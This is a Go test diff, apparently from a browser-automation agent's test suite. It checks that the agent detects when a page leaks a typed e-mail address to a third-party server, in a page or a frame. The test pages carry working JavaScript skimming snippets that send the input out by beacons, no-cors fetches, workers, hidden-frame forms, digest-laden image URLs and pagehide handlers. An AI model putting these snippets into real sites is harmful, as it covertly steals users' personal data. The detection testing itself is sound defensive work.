@@ -159,3 +159,35 @@ func TestAddressOverSocketAndCookie(t *testing.T) {
 		})
 	}
 }
+
+// From pages and from frames, by beacons, bodies that the browser does not show,
+// digests, workers, forms in hidden frames and as the page is left.
+func TestAddressByEveryWayOut(t *testing.T) {
+	third := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) }))
+	t.Cleanup(third.Close)
+	for name, c := range map[string]struct{ script, where string }{
+		"beacon of a blob":          {`navigator.sendBeacon(to, new Blob([JSON.stringify({m})]))`, "plain, in the body"},
+		"packed blob":               {`new Response(new Blob([m]).stream().pipeThrough(new CompressionStream('gzip'))).blob().then(b => fetch(to, {method: 'POST', mode: 'no-cors', body: b}))`, "plain, in the body"},
+		"beacon of a form's fields": {`const f = new FormData(); f.set('m', m); navigator.sendBeacon(to, f)`, "plain, in the body"},
+		"picture with a digest":     {`crypto.subtle.digest('SHA-256', new TextEncoder().encode(m)).then(d => { new Image().src = to + '?h=' + [...new Uint8Array(d)].map(b => b.toString(16).padStart(2, '0')).join('') })`, "as its SHA-256, in the address"},
+		"worker":                    {`new Worker(window.URL.createObjectURL(new Blob(["onmessage = e => fetch('" + to + "', {method: 'POST', mode: 'no-cors', body: e.data})"]))).postMessage(m)`, "plain, in the body"},
+		"form in a hidden frame":    {`document.body.insertAdjacentHTML('beforeend', '<iframe name=h hidden></iframe><form id=z method=post target=h><input name=m></form>'); z.action = to; z.m.value = m; z.submit()`, "plain, in the body"},
+		"as the page is left":       {`addEventListener('pagehide', () => navigator.sendBeacon(to, encodeURIComponent(m)))`, "plain, in the body"},
+	} {
+		for _, within := range []string{"page", "frame"} {
+			t.Run(name+" of a "+within, func(t *testing.T) {
+				t.Parallel()
+				body := `<form><label>E-mail <input name=email></label></form><a href=/next target=_top>On</a><script>document.querySelector('input').oninput = e => { if (!e.target.value.endsWith('.net')) return; const m = e.target.value, to = '` + third.URL + `/t'; ` + c.script + ` }</script>`
+				pages := map[string]string{"/": body, "/in": body, "/next": `<h1>Next</h1>`}
+				if within == "frame" {
+					pages["/"] = `<iframe src=/in></iframe>`
+				}
+				r := shopping(t, serve(t, pages), `[{"open":"/"},{"effect":"subscribe","fill":{"label":"E-mail","value":"anna@example.net"}},{"click":{"role":"link"}},{"expect":{"text":"Next"}}]`, grant(evidence.Subscribe))
+				want(t, r, evidence.Completed, "")
+				if f, _ := r.Fact("web.third-party-typed-to"); !strings.HasSuffix(f.Text, c.where) {
+					t.Errorf("it went to %q", f.Text)
+				}
+			})
+		}
+	}
+}
